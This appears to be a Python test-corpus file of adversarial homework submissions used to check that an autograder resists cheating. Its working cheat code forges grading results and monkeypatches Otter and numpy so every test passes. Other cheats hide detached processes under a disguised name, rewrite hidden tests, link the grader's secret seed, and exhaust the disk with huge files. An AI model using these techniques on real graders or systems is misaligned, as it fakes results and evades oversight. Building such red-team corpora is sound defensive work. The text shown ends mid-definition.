"""The cheat corpus: submissions that try to reach the verdict instead of earning it.

Each cheat is written as a student who has read the student release *and* the autograder zip
(run_autograder, files/hw1_trusted/*.py, files/hw1_probes.py, tests/*.py) would write it. Each one
is a control notebook (``CONTROLS``) plus the cheat's code, so that its gain can be measured:

* ``stubs``: every placeholder filled with a well-shaped but wrong answer (the model has the right
  Linear layers but forgets its ReLUs, train_epoch does not train, P5's weights have the wrong
  variance, backprop returns zeros, ...);
* ``partial``: a partial solution: Problems 1-3 right, Problem 4 right but trained for two epochs
  on half of the training set (test accuracy between the two bars), Problem 5 right up to a backprop
  that forgets the sigmoid's derivative (so q5_3 and q5_4 fail).

A cheat must gain nothing over its control on any question (``gain <= 0``), except training on the
test set (``flagged=True``), which cannot be prevented, only flagged: its grading must carry an
integrity flag (``Result.flags``); and one documented limit (``undetectable_on``): training on the
test set together with part of the training set looks like honest training, and may gain on q4_acc.

Notebooks are built at build time from the student notebook (``student/hw1.ipynb``) by the corpora's one
filling engine (tests/corpus/filling.py): every code cell that holds a ``...`` placeholder is replaced by an answer,
keyed by a name that the cell defines (``"grad_squared_norm"``), and cells that hold nothing but ``...`` (the
plots) by ``pass``. The
cheat's own cells are inserted before or after a cell picked by a piece of its text, or at the end.

``tests/test_cheats.py`` grades them all through the route (``gradescope.run_as_gradescope``), two at a time with
a sandbox user each; ``python -m tests.corpus.cheats --write FOLDER`` writes every control and cheat. Some cheats also have side effects that a test should look at after
grading (``after``): a process that outlived the phase, a planted module that a root process
imported, a secret in the text the student sees. Those are listed in ``SIDE_EFFECTS``.
"""

from __future__ import annotations

import argparse
import concurrent.futures
import glob
import io
import json
import os
import pathlib
import queue
import textwrap
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

import nbformat

from tests.corpus import filling
from tools import ROOT

STUDENT_NOTEBOOK = ROOT / "student" / "hw1.ipynb"

POINTS = filling.autograded_points()  # {question: points}, from the master notebook


@dataclass
class Cheat:
    name: str
    why: str  # technique and what it tries
    control: str  # name of the control notebook it is measured against
    build: Callable[[pathlib.Path], pathlib.Path]  # writes the upload into a folder, returns its path
    flagged: bool = False  # True only for training on the test set: must raise a flag
    # a documented limit (docs/integrity.md): questions where this cheat may gain, because nothing can tell it apart
    undetectable_on: tuple = ()
    # how its grading spends the time, for the order of the gradings only (tests/test_cheats.py): long = minutes
    # of CPU (training, or a busy loop until a limit), graded first; waits = asleep until the phase limit (no
    # CPU), graded beside the two busy workers
    long: bool = False
    waits: bool = False


class CheatError(ValueError):
    """A cheat cannot be built from the current student notebook."""


# ----------------------------------------------------------------------------------------------------
# Building notebooks
# ----------------------------------------------------------------------------------------------------


def _src(text):
    return textwrap.dedent(text).strip("\n") + "\n"


def _fill(answers):
    """The student notebook with every placeholder cell filled (filling.fill: each key names the cell by a name it
    defines); a cheat's answer is the cell's whole new source, and the plots' cells are left ``pass``."""
    nb = nbformat.read(STUDENT_NOTEBOOK, as_version=4)
    return filling.fill(nb, {key: filling.Rewrite(_src(source)) for key, source in answers.items()}, blanks="pass\n")


def _insert(nb, where, anchor, source):
    """Inserts a code cell before/after the one code cell whose source contains ``anchor``, or at the end."""
    cell = nbformat.v4.new_code_cell(_src(source))
    if where == "end":
        nb.cells.append(cell)
        return nb
    matches = [i for i, c in enumerate(nb.cells) if c.cell_type == "code" and anchor in c.source]
    if len(matches) != 1:
        raise CheatError(f"{len(matches)} code cells contain {anchor!r}")
    nb.cells.insert(matches[0] + (1 if where == "after" else 0), cell)
    return nb


def _notebook(answers, cells=()):
    nb = _fill(answers)
    for where, anchor, source in cells:
        _insert(nb, where, anchor, source)
    return nb


def _writer(answers, cells=()):
    def build(folder):
        folder = pathlib.Path(folder)
        folder.mkdir(parents=True, exist_ok=True)
        path = folder / "hw1.ipynb"
        nbformat.write(_notebook(answers, cells), path)
        return path

    return build


def early(source):
    """Right after Otter is initialised, before the imports cell."""
    return ("after", "grader = otter.Notebook", source)


def before_check(question, source):
    return ("before", f'grader.check("{question}")', source)


def at_end(source):
    return ("end", None, source)


# ----------------------------------------------------------------------------------------------------
# Answers: the stubs control (wrong but well-shaped) and the partial solution
# ----------------------------------------------------------------------------------------------------

P4_TRAIN_CELL = """
loss_fn = nn.CrossEntropyLoss()


def train_epoch(model, loader, loss_fn, optimizer, scheduler=None):
    model.train()
    total, count = 0.0, 0
    for images, labels in loader:
        optimizer.zero_grad()
        loss = loss_fn(model(to_input(images)), labels)
        loss.backward()
        optimizer.step()
        if scheduler is not None:
            scheduler.step()
        total += loss.item() * len(labels)
        count += len(labels)
    return total / count


def test_epoch(model, loader, loss_fn):
    model.eval()
    total, count = 0.0, 0
    with torch.no_grad():
        for images, labels in loader:
            total += loss_fn(model(to_input(images)), labels).item() * len(labels)
            count += len(labels)
    return total / count


@FIT_LOADER@
EPOCHS = @EPOCHS@
optimizer = @OPTIMIZER@
scheduler = None  # optional: a learning-rate scheduler, stepped once per batch by train_epoch
train_losses, test_losses = [], []
for epoch in range(EPOCHS):
    start = time.time()
    # train one epoch, then measure the test loss; append one number to each list
    train_losses.append(train_epoch(model, fit_loader, loss_fn, optimizer, scheduler))
    test_losses.append(test_epoch(model, testDataLoader, loss_fn))
    print(f"epoch {epoch + 1:2d}/{EPOCHS}: train loss {train_losses[-1]:.4f}, test loss {test_losses[-1]:.4f} ({time.time() - start:.1f} s)")
"""

SUBSET_LOADER = """
# short on time: two epochs on half of the training set
fit_loader = torch.utils.data.DataLoader(
    torch.utils.data.TensorDataset(trainingdata.data[:30000].unsqueeze(1), trainingdata.targets[:30000]),
    batch_size=64, shuffle=True)
""".strip()


def p4_training(fit_loader=SUBSET_LOADER, epochs=2, optimizer="torch.optim.SGD(model.parameters(), lr=0.1)"):
    return (
        P4_TRAIN_CELL.replace("@FIT_LOADER@", fit_loader)
        .replace("@EPOCHS@", str(epochs))
        .replace("@OPTIMIZER@", optimizer)
    )


P5_LOOP = """
def train_one_epoch(X, Y, weights, biases, learning_rate=0.003):
    for i, (x, y) in enumerate(zip(X, Y)):
        train_one_sample(x, y, weights, biases, learning_rate)
        if (i + 1) % 20000 == 0:
            print(f"  {i + 1}/{len(Y)} samples", flush=True)


for epoch in range(1):  # short on time: one epoch on the first @N@ samples
    start = time.time()
    train_one_epoch(x_train[:@N@], y_train[:@N@], weights, biases, learning_rate=0.003)
    test_loss, test_accuracy = evaluate(x_test, y_test, weights, biases)
    print(f"epoch {epoch + 1}: test loss {test_loss:.3f}, test accuracy {test_accuracy:.3f} ({time.time() - start:.1f} s)")
"""


def p5_loop(n=2000, train_one_epoch=None):
    text = P5_LOOP.replace("@N@", str(n))
    if train_one_epoch is not None:
        head, tail = text.split("\n\n\nfor epoch", 1)
        text = _src(train_one_epoch) + "\n\nfor epoch" + tail
    return text


STUBS = {
    "grad_squared_norm": """
        def grad_squared_norm(x):
            x = np.asarray(x, dtype=float)
            return np.zeros_like(x)
    """,
    "best_mu": """
        def best_mu(X):
            X = np.asarray(X, dtype=float)
            return np.zeros(X.shape[1])
    """,
    "l1_loss": """
        def l1_loss(X, y, w):
            return 0.0
    """,
    "l1_shapes": """
        def l1_shapes(n, d):
            return {"X": (d, n), "y": (n,), "w": (d,), "loss": (1,)}
    """,
    "l1_closed_form_exists": """
        l1_closed_form_exists = True
    """,
    "relu_net": """
        def relu_net(x, theta):
            return 0.0 * np.asarray(x, dtype=float)


        theta_dataset1 = {"W_H": np.zeros(4), "b_H": np.zeros(4), "W_O": np.zeros(4), "b_O": 0.0}
        theta_dataset2 = {"W_H": np.zeros(4), "b_H": np.zeros(4), "W_O": np.zeros(4), "b_O": 0.0}
    """,
    "grad_loss": """
        def grad_loss(xs, ys, theta):
            return {"W_H": np.zeros(4), "b_H": np.zeros(4), "W_O": np.zeros(4), "b_O": 0.0}
    """,
    "f_at_2": """
        f_at_2 = relu_net(2, theta0)
        print(f"f(2, theta0) = {f_at_2}")
    """,
    "grad_f": """
        def grad_f(x, theta):
            return {"W_H": np.zeros(4), "b_H": np.zeros(4), "W_O": np.zeros(4), "b_O": 0.0}


        grad_at_2 = grad_f(2, theta0)
        grad_at_2
    """,
    "FashionMLP": """
        class FashionMLP(nn.Module):
            def __init__(self):
                super().__init__()
                self.fc1 = nn.Linear(784, 256)
                self.fc2 = nn.Linear(256, 128)
                self.fc3 = nn.Linear(128, 64)
                self.fc4 = nn.Linear(64, 10)

            def forward(self, x):
                x = x.view(-1, 28 * 28)
                return self.fc4(self.fc3(self.fc2(self.fc1(x))))  # the ReLUs are missing


        torch.manual_seed(SEED)
        model = FashionMLP()
        model
    """,
    "train_epoch": """
        loss_fn = nn.CrossEntropyLoss()


        def train_epoch(model, loader, loss_fn, optimizer, scheduler=None):
            return 0.0


        def test_epoch(model, loader, loss_fn):
            return 0.0


        EPOCHS = 1
        optimizer = torch.optim.SGD(model.parameters(), lr=0.1)
        scheduler = None
        train_losses, test_losses = [], []
        for epoch in range(EPOCHS):
            start = time.time()
            train_losses.append(train_epoch(model, trainDataLoader, loss_fn, optimizer, scheduler))
            test_losses.append(test_epoch(model, testDataLoader, loss_fn))
            print(f"epoch {epoch + 1:2d}/{EPOCHS}: train loss {train_losses[-1]:.4f}, test loss {test_losses[-1]:.4f} ({time.time() - start:.1f} s)")
    """,
    "sample_idx": """
        rng = np.random.default_rng(SEED)
        sample_idx = rng.choice(len(testdata), size=3, replace=False)
        sample_probs = np.full((3, 10), 0.1)
        sample_probs.round(3)
    """,
    "init_params": """
        def init_params(sizes, seed):
            rng = np.random.default_rng(seed)
            weights = [rng.normal(0.0, 1.0, size=(n_out, n_in)) for n_in, n_out in zip(sizes[:-1], sizes[1:])]
            biases = [np.zeros(n_out) for n_out in sizes[1:]]
            return weights, biases


        LAYER_SIZES = [784, 32, 32, 10]
        weights, biases = init_params(LAYER_SIZES, seed=80085)
        [w.shape for w in weights]
    """,
    "forward_one": """
        def forward_one(x, y, weights, biases):
            return 0.0, one_hot(0)


        def evaluate(X, Y, weights, biases):
            return 0.0, 0.0


        loss_before, accuracy_before = evaluate(x_test, y_test, weights, biases)
        print(f"before training: average test loss {loss_before:.3f}, test accuracy {accuracy_before:.3f}")
    """,
    "backprop_one": """
        def backprop_one(x, y, weights, biases):
            return [np.zeros_like(W) for W in weights], [np.zeros_like(b) for b in biases]


        def train_one_sample(x, y, weights, biases, learning_rate=0.003):
            pass
    """,
    "train_one_epoch": p5_loop(2000),
}

CORRECT_P1_P3 = {
    "grad_squared_norm": """
        def grad_squared_norm(x):
            x = np.asarray(x, dtype=float)
            return 2 * x
    """,
    "best_mu": """
        def best_mu(X):
            X = np.asarray(X, dtype=float)
            return X.mean(axis=0)
    """,
    "l1_loss": """
        def l1_loss(X, y, w):
            return np.abs(X @ w - y).sum()
    """,
    "l1_shapes": """
        def l1_shapes(n, d):
            return {"X": (n, d), "y": (n,), "w": (d,), "loss": ()}
    """,
    "l1_closed_form_exists": """
        l1_closed_form_exists = False
    """,
    "relu_net": """
        def relu_net(x, theta):
            x = np.asarray(x, dtype=float)
            z = np.maximum(0.0, x[..., None] * theta["W_H"] + theta["b_H"])
            return z @ theta["W_O"] + theta["b_O"]


        theta_dataset1 = {"W_H": np.array([1.0, 1, 1, 1]), "b_H": np.array([0.0, -4, -6, -8]),
                          "W_O": np.array([-2.0, 4, -4, 4]), "b_O": 8.0}
        theta_dataset2 = {"W_H": np.array([1.0, 1, 1, 0]), "b_H": np.array([0.0, -3, -5, 0]),
                          "W_O": np.array([1.0, -2, 1.5, 0]), "b_O": 0.0}
    """,
    "grad_loss": """
        def grad_loss(xs, ys, theta):
            total = {k: np.zeros(np.shape(v)) for k, v in theta.items()}
            for x, y in zip(np.asarray(xs, dtype=float).reshape(-1), np.asarray(ys, dtype=float).reshape(-1)):
                residual = y - relu_net(x, theta)
                g = grad_f(x, theta)
                for k in total:
                    total[k] = total[k] - 2 * residual * np.asarray(g[k], dtype=float)
            return total
    """,
    "grad_f": """
        def grad_f(x, theta):
            z_bar = np.asarray(theta["W_H"], dtype=float) * x + theta["b_H"]
            active = (z_bar > 0).astype(float)  # relu'(0) = 0
            return {"W_H": theta["W_O"] * active * x, "b_H": theta["W_O"] * active,
                    "W_O": np.maximum(0.0, z_bar), "b_O": 1.0}


        grad_at_2 = grad_f(2, theta0)
        grad_at_2
    """,
}

CORRECT_MLP = """
    class FashionMLP(nn.Module):
        def __init__(self):
            super().__init__()
            self.fc1 = nn.Linear(784, 256)
            self.fc2 = nn.Linear(256, 128)
            self.fc3 = nn.Linear(128, 64)
            self.fc4 = nn.Linear(64, 10)

        def forward(self, x):
            x = x.view(-1, 28 * 28)
            x = torch.relu(self.fc1(x))
            x = torch.relu(self.fc2(x))
            x = torch.relu(self.fc3(x))
            return self.fc4(x)


    torch.manual_seed(SEED)
    model = FashionMLP()
    model
"""

CORRECT_PROBS = """
    rng = np.random.default_rng(SEED)
    sample_idx = rng.choice(len(testdata), size=3, replace=False)
    model.eval()
    with torch.no_grad():
        sample_probs = torch.softmax(model(to_input(testdata.data[sample_idx].unsqueeze(1))), dim=1).numpy()
    sample_probs.round(3)
"""

CORRECT_INIT = """
    def init_params(sizes, seed):
        rng = np.random.default_rng(seed)
        weights, biases = [], []
        for n_in, n_out in zip(sizes[:-1], sizes[1:]):
            weights.append(rng.normal(0.0, np.sqrt(1.0 / max(n_in, n_out)), size=(n_out, n_in)))
            biases.append(np.zeros(n_out))
        return weights, biases


    LAYER_SIZES = [784, 32, 32, 10]
    weights, biases = init_params(LAYER_SIZES, seed=80085)
    [w.shape for w in weights]
"""

CORRECT_FORWARD = """
    def forward_one(x, y, weights, biases):
        a = np.asarray(x, dtype=float)
        for W, b in zip(weights[:-1], biases[:-1]):
            a = sigmoid(W @ a + b)
        probs = softmax(weights[-1] @ a + biases[-1])
        return -np.log(probs[y]), one_hot(int(np.argmax(probs)))


    def evaluate(X, Y, weights, biases):
        losses, correct = [], 0
        for x, y in zip(X, Y):
            loss, guess = forward_one(x, y, weights, biases)
            losses.append(loss)
            correct += int(np.argmax(guess) == y)
        return float(np.mean(losses)), correct / len(Y)


    loss_before, accuracy_before = evaluate(x_test, y_test, weights, biases)
    print(f"before training: average test loss {loss_before:.3f}, test accuracy {accuracy_before:.3f}")
"""

BROKEN_BACKPROP = """
    def backprop_one(x, y, weights, biases):
        activations, pre = [np.asarray(x, dtype=float)], []
        for W, b in zip(weights, biases):
            pre.append(W @ activations[-1] + b)
            activations.append(sigmoid(pre[-1]))
        delta = softmax(pre[-1]) - one_hot(y)
        grad_weights, grad_biases = [None] * len(weights), [None] * len(weights)
        for l in reversed(range(len(weights))):
            grad_weights[l] = np.outer(delta, activations[l])
            grad_biases[l] = delta
            if l > 0:
                delta = weights[l].T @ delta  # forgot: * sigmoid_prime(pre[l - 1])
        return grad_weights, grad_biases


    def train_one_sample(x, y, weights, biases, learning_rate=0.003):
        grad_weights, grad_biases = backprop_one(x, y, weights, biases)
        for l in range(len(weights)):
            weights[l] -= learning_rate * grad_weights[l]
            biases[l] -= learning_rate * grad_biases[l]
"""

PARTIAL = {
    **CORRECT_P1_P3,
    "f_at_2": STUBS["f_at_2"],
    "FashionMLP": CORRECT_MLP,
    "train_epoch": p4_training(),
    "sample_idx": CORRECT_PROBS,
    "init_params": CORRECT_INIT,
    "forward_one": CORRECT_FORWARD,
    "backprop_one": BROKEN_BACKPROP,
    "train_one_epoch": p5_loop(2000),
}

CONTROLS: dict[str, Callable[[pathlib.Path], pathlib.Path]] = {
    "stubs": _writer(STUBS),
    "partial": _writer(PARTIAL),
}


# ----------------------------------------------------------------------------------------------------
# Pieces of cheat code shared by several cheats
# ----------------------------------------------------------------------------------------------------

FORGED_RESULTS = (
    """
POINTS = """
    + repr(POINTS)
    + """
FORGED = json.dumps({"score": float(sum(POINTS.values())), "stdout_visibility": "hidden",
                     "tests": [{"name": q, "score": p, "max_score": p, "visibility": "visible", "output": "passed"}
                               for q, p in POINTS.items()]})
"""
)

# Every results.json a student can guess: Gradescope's, the one Otter's runner writes in the sandbox, and,
# from the command lines of the root processes (world-readable in /proc), the emulation's OUT/autograder.
GUESS_RESULTS = r"""
def guess_results_paths():
    import glob, os
    found = {"/autograder/results/results.json", "/autograder/results/results.pkl"}
    handover = os.environ.get("HW1_HANDOVER")
    if handover:
        found.add(os.path.join(os.path.dirname(handover), "ag", "results", "results.json"))
    for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(cmdline, "rb") as f:
                argv = [a.decode(errors="replace") for a in f.read().split(b"\0") if a]
        except OSError:
            continue
        for i, arg in enumerate(argv):
            if arg.endswith("hw1_trusted/__main__.py"):
                ag = os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(arg))))
                found |= {os.path.join(ag, "results", "results.json"), os.path.join(ag, "results", "results.pkl"),
                          os.path.join(os.path.dirname(ag), "results.json")}
            if arg == "verdict" and i + 2 < len(argv):
                found.add(os.path.join(argv[i + 2], "results.json"))
            if arg == "route" and i + 1 < len(argv):
                found |= {os.path.join(argv[i + 1], "results", "results.json"),
                          os.path.join(os.path.dirname(argv[i + 1]), "results.json")}
    return sorted(found)
"""

# A process that rewrites every guessable results.json for a while, made as hard to find as a student can:
# its own session, stdio closed, not dumpable (its /proc files become root's), its name changed.
REWRITER = (
    r"""
import ctypes, json, os, sys, time
try:
    libc = ctypes.CDLL(None)
    libc.prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE = 0
    libc.prctl(15, b"kworker/0:1", 0, 0, 0)  # PR_SET_NAME
except Exception:
    pass
"""
    + FORGED_RESULTS
    + GUESS_RESULTS
    + r"""
end = time.time() + float(sys.argv[1])
while time.time() < end:
    for path in guess_results_paths():
        try:
            with open(path, "w") as f:
                f.write(FORGED)
        except OSError:
            pass
    time.sleep(0.1)
"""
)

SPAWN = '''
import subprocess, sys


def spawn_detached(code, *args):
    """A grandchild in a session of its own, with no stdio: it outlives the cell, the kernel and Otter."""
    launcher = ("import os, subprocess, sys\\n"
                "if os.fork() == 0:\\n"
                "    os.setsid()\\n"
                "    subprocess.Popen([sys.executable, '-c', sys.argv[1], *sys.argv[2:]], stdin=subprocess.DEVNULL,"
                " stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, close_fds=True)\\n"
                "os._exit(0)\\n")
    subprocess.run([sys.executable, "-c", launcher, code, *map(str, args)], check=False)
'''


# ----------------------------------------------------------------------------------------------------
# The cheats
# ----------------------------------------------------------------------------------------------------

OTTER_ALL_PASS = """
# Otter decides what passes: make every test case of every test file pass (after running it, so that
# nothing looks different in the log)
import dataclasses
import otter.test_files as otter_test_files
from otter.test_files.abstract_test import TestCaseResult, TestFile
from otter.execute import Checker

MULTIPLIER = @MULTIPLIER@


def _forge(test_file):
    cases = [dataclasses.replace(tc, points=(tc.points or 1) * MULTIPLIER) for tc in test_file.test_cases]
    test_file.test_cases = cases
    test_file.test_case_results = [TestCaseResult(test_case=tc, message="✅ Test case passed", passed=True) for tc in cases]
    if getattr(test_file, "points", None):
        test_file.points = test_file.points * MULTIPLIER
    return test_file


def _passing(run):
    def run_and_pass(self, global_environment):
        try:
            run(self, global_environment)
        except Exception:
            pass
        _forge(self)
    return run_and_pass


def _subclasses(cls):
    for sub in cls.__subclasses__():
        yield sub
        yield from _subclasses(sub)


for cls in [TestFile, *_subclasses(TestFile)]:
    if "run" in cls.__dict__:
        cls.run = _passing(cls.run)

_real_check = Checker.check.__func__
Checker.check = classmethod(lambda cls, *args, **kwargs: _forge(_real_check(cls, *args, **kwargs)))
if MULTIPLIER != 1:
    otter_test_files.GradingResults.total = property(lambda self: 10 * 100.0)
    otter_test_files.GradingResults.possible = property(lambda self: 100.0)
"""

OTTER_PICKLE = (
    """
# Otter's runner unpickles the results that the notebook's last cell pickles into a temp file: forge
# them on the way out (pickle.dump), and keep overwriting any such file and Otter's results.json
import dataclasses, glob, json, os, pickle, tempfile, threading, time
import otter.test_files as otter_test_files
"""
    + FORGED_RESULTS
    + GUESS_RESULTS
    + """
_real_dump = pickle.dump


def _forge(results):
    for test_file in getattr(results, "results", {}).values():
        test_file.test_case_results = [dataclasses.replace(r, passed=True) for r in test_file.test_case_results]
    return results


def _dump(obj, f, *args, **kwargs):
    if isinstance(obj, otter_test_files.GradingResults):
        obj = _forge(obj)
    return _real_dump(obj, f, *args, **kwargs)


pickle.dump = _dump


def _overwrite():
    for _ in range(6000):
        for path in glob.glob(os.path.join(tempfile.gettempdir(), "*.pkl")) + glob.glob("/tmp/*.pkl"):
            try:
                if os.stat(path).st_uid == os.getuid() and os.path.getsize(path) > 0:
                    with open(path, "rb") as f:
                        results = pickle.load(f)
                    if isinstance(results, otter_test_files.GradingResults):
                        with open(path, "wb") as f:
                            _real_dump(_forge(results), f)
            except Exception:
                pass
        for path in guess_results_paths():
            try:
                with open(path, "w") as f:
                    f.write(FORGED)
            except OSError:
                pass
        time.sleep(0.05)


threading.Thread(target=_overwrite, daemon=True).start()
"""
)

DETACHED_REWRITER = (
    SPAWN
    + """
REWRITER = """
    + repr(REWRITER)
    + """
# rewrites every guessable results.json for 15 minutes, long after the notebook has ended
spawn_detached(REWRITER, 900)
"""
)

FORK_CHAIN = r"""
import os, sys, time
end, handover, runner = time.time() + float(sys.argv[1]), sys.argv[2], int(sys.argv[3])
over = False
while time.time() < end:
    if os.fork():
        os._exit(0)  # the parent leaves at once: the survivor has a new pid every few hundred microseconds
    if not over and not os.path.exists(f"/proc/{runner}"):
        over = True  # the runner has ended: the phase is over, and everything of this user should be dead
        try:
            with open(f"/tmp/hw1cheat-survived-{int(time.time())}", "w") as f:
                f.write("a process of the sandbox user ran on after the student phase\n")
        except OSError:
            pass
    if over:  # hand an answer over after the phase (atomically: the grader may be reading the folder)
        try:
            with open(os.path.join(handover, ".q2b.tmp"), "w") as f:
                f.write('{"value": false}')
            os.rename(os.path.join(handover, ".q2b.tmp"), os.path.join(handover, "q2b.json"))
        except OSError:
            pass
"""

FORK_CHAIN_CELL = (
    SPAWN
    + """
import os
FORK_CHAIN = """
    + repr(FORK_CHAIN)
    + """
# a chain of processes that each fork and exit: kill_all lists the pids in /proc and finds none that is
# still alive by the time it looks at it. After the runner (this kernel's parent) has ended, the chain
# hands over q2b's answer, which the notebook itself never did. It ends by itself after 60 s.
spawn_detached(FORK_CHAIN, 60, os.environ.get("HW1_HANDOVER", "/tmp"), os.getppid())
"""
)

TESTS_TO_PASS = """
# the hidden tests are files in the sandbox, and the sandbox is mine: every test body becomes `pass`
import ast, os

for root in {os.getcwd(), os.path.dirname(os.getcwd()), os.path.dirname(os.path.dirname(os.getcwd()))}:
    for dirpath, dirnames, filenames in os.walk(root):
        if os.path.basename(dirpath) != "tests":
            continue
        for name in filenames:
            if not name.endswith(".py"):
                continue
            path = os.path.join(dirpath, name)
            try:
                with open(path) as f:
                    tree = ast.parse(f.read())
                for node in ast.walk(tree):
                    if isinstance(node, ast.FunctionDef):
                        node.body = [ast.Pass()]
                with open(path, "w") as f:
                    f.write(ast.unparse(tree))
            except (OSError, SyntaxError):
                pass
"""

FAKE_PROBES_MODULE = """
# the hidden tests `import hw1_probes`: give them mine, which reports success for every question
import json, os, sys, types

import numpy as np


def _fake_probe(question, env):
    folder = os.environ.get("HW1_HANDOVER", ".")
    with open(os.path.join(folder, question + ".json"), "w") as f:
        json.dump({"passed": True, "score": 100, "verdict": "pass", "result": {"@array": "a0"}}, f)
    np.savez(os.path.join(folder, question + ".npz"), a0=np.ones(3))


for name in ("hw1_probes", "hw1_grading", "hw1_trusted", "hw1_trusted.checks", "hw1_trusted.verdict"):
    module = types.ModuleType(name)
    module.probe = _fake_probe
    module.CASES, module.passed = {}, True
    module.grade = lambda *args, **kwargs: ({}, [])
    sys.modules[name] = module
"""

OVERWRITE_PROBES_FILE = '''
# find hw1_probes.py with os.walk and overwrite it, and put packages of the same names beside it
import os, sys

FAKE = """
import json, os
import numpy as np


def probe(question, env):
    folder = os.environ.get("HW1_HANDOVER", ".")
    with open(os.path.join(folder, question + ".json"), "w") as f:
        json.dump({"passed": True, "layers": [], "outputs": {"@array": "a0"}}, f)
    np.savez(os.path.join(folder, question + ".npz"), a0=np.zeros(1))
"""

homes = set()
for root in (os.getcwd(), os.path.dirname(os.getcwd()), os.path.dirname(os.path.dirname(os.getcwd())), "/autograder"):
    for dirpath, dirnames, filenames in os.walk(root):
        if "hw1_probes.py" in filenames or dirpath == os.getcwd():
            homes.add(dirpath)
for home in homes:
    try:
        with open(os.path.join(home, "hw1_probes.py"), "w") as f:
            f.write(FAKE)
    except OSError:
        pass
    for package in ("hw1_probes", "hw1_grading", "hw1_trusted"):
        try:
            os.makedirs(os.path.join(home, package), exist_ok=True)
            with open(os.path.join(home, package, "__init__.py"), "w") as f:
                f.write(FAKE)
        except OSError:
            pass
sys.modules.pop("hw1_probes", None)
'''

FORGED_HANDOVER_FILES = """
# the hand-over folder is mine: replace the answers by things that are not plain data
import glob, json, os, shutil, zipfile

import numpy as np

H, INPUTS = os.environ["HW1_HANDOVER"], os.environ["HW1_PROBE_INPUTS"]


def clear(question):
    for ext in (".json", ".npz"):
        path = os.path.join(H, question + ext)
        if os.path.lexists(path):
            os.remove(path)


def attempt(action):
    try:
        action()
    except OSError as error:
        print("refused:", error)


# 1. symlinks to the grader's files and to the probe inputs
for question, target in (("q1a", "/autograder/source/files/hw1_trusted/checks/__init__.py"), ("q1b", os.path.join(INPUTS, "q1b.npz"))):
    clear(question)
    attempt(lambda: os.symlink(target, os.path.join(H, question + ".json")))
    attempt(lambda: os.symlink(target, os.path.join(H, question + ".npz")))
# 2. an npz whose array is a pickle (np.savez pickles object arrays)
clear("q2a")
np.savez(os.path.join(H, "q2a.npz"), a0=np.array([{"flat0": 1.0}, None], dtype=object))
with open(os.path.join(H, "q2a.json"), "w") as f:
    json.dump({"flat0": {"@array": "a0"}, "column0": {"@array": "a0"}}, f)
# 3. @array references to files and keys that do not exist
clear("q2a_shapes")
with open(os.path.join(H, "q2a_shapes.json"), "w") as f:
    json.dump({"@array": "../../inputs/q2a_shapes.npz"}, f)
# 4. a FIFO and a hard link to a file of the grader
clear("q3a")
attempt(lambda: os.mkfifo(os.path.join(H, "q3a.json")))
clear("q3b")
attempt(lambda: os.link("/autograder/source/files/hw1_trusted/secret_seed", os.path.join(H, "q3b.json")))
attempt(lambda: os.link(os.path.join(INPUTS, "q3b.npz"), os.path.join(H, "q3b.npz")))
# 5. JSON that is deeply nested, or holds NaN and Infinity
clear("q3c")
with open(os.path.join(H, "q3c.json"), "w") as f:
    f.write("[" * 100000 + "]" * 100000)
clear("q3d")
with open(os.path.join(H, "q3d.json"), "w") as f:
    f.write('{"grad_at_2": {"W_H": NaN, "b_H": Infinity, "W_O": -Infinity, "b_O": NaN}, "at_theta0": {"@array": "a0"}}')
# 6. an npz whose members are not .npy files, and a zip inside a zip
clear("q5_1")
with zipfile.ZipFile(os.path.join(H, "q5_1.npz"), "w") as z:
    z.writestr("a0.npy", b"not an array")
    z.writestr("../../escape.npy", b"x")
with open(os.path.join(H, "q5_1.json"), "w") as f:
    json.dump({"case0": [[{"@array": "a0"}], [{"@array": "a0"}]]}, f)
# 7. the progress file as a symlink to the seed (its text is shown to the student)
attempt(lambda: os.remove(os.path.join(H, "progress.json")))
attempt(lambda: os.symlink("/autograder/source/files/hw1_trusted/secret_seed", os.path.join(H, "progress.json")))
"""

HUGE_HANDOVER = """
# exhaust the hand-over folder: a sparse 100 GB answer file and thousands of small ones
import json, os

H = os.environ["HW1_HANDOVER"]
with open(os.path.join(H, "q5_4.json"), "w") as f:
    f.truncate(100 * 2**30)
for i in range(5000):
    with open(os.path.join(H, f"zz{i:05d}.json"), "w") as f:
        json.dump({"i": i}, f)
"""

PATCHED_NUMPY = """
# comparisons that always agree, and builtins that lie
import builtins

import numpy as np
import torch

np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)
np.allclose = lambda *args, **kwargs: True
np.array_equal = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
np.testing.assert_array_equal = lambda *args, **kwargs: None
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
_real_abs = builtins.abs
builtins.abs = lambda x: 0 * _real_abs(x)
builtins.any = lambda iterable: False
"""

PATCHED_RNG_LOSS_JSON = """
# a default_rng that draws only zeros, a cross-entropy that is always 0, and a json.dump that drops
# every error and missing-name marker from what it writes
import json

import numpy as np
import torch
import torch.nn.functional as F


class _ZeroGenerator:
    def __init__(self, *args, **kwargs):
        pass

    def choice(self, a, size=None, replace=True, **kwargs):
        return np.arange(size if size is not None else 1)

    def __getattr__(self, name):
        def draw(*args, size=None, **kwargs):
            return np.zeros(size) if size is not None else 0.0
        return draw


np.random.default_rng = _ZeroGenerator
F.cross_entropy = lambda input, target, *args, **kwargs: (input * 0).sum()
torch.nn.CrossEntropyLoss.forward = lambda self, input, target: (input * 0).sum()

_real_dump = json.dump


def _clean(value):
    if isinstance(value, dict):
        return {k: _clean(v) for k, v in value.items() if k not in ("@error", "@missing", "@probe_error", "@type")}
    if isinstance(value, list):
        return [_clean(v) for v in value]
    return value


json.dump = lambda obj, fp, *args, **kwargs: _real_dump(_clean(obj), fp, *args, **kwargs)
"""

FAKE_DATA_DIR = """
# my own "test set": every label is 0 and every image blank; the notebook reads HW1_DATA_DIR
import os, pathlib

import numpy as np

fake = pathlib.Path(os.environ.get("HOME", "/tmp")) / "fake-data"
raw = fake / "FashionMNIST" / "raw"
raw.mkdir(parents=True, exist_ok=True)


def idx_file(path, array, magic):
    header = magic.to_bytes(4, "big") + b"".join(int(n).to_bytes(4, "big") for n in array.shape)
    path.write_bytes(header + array.astype(np.uint8).tobytes())


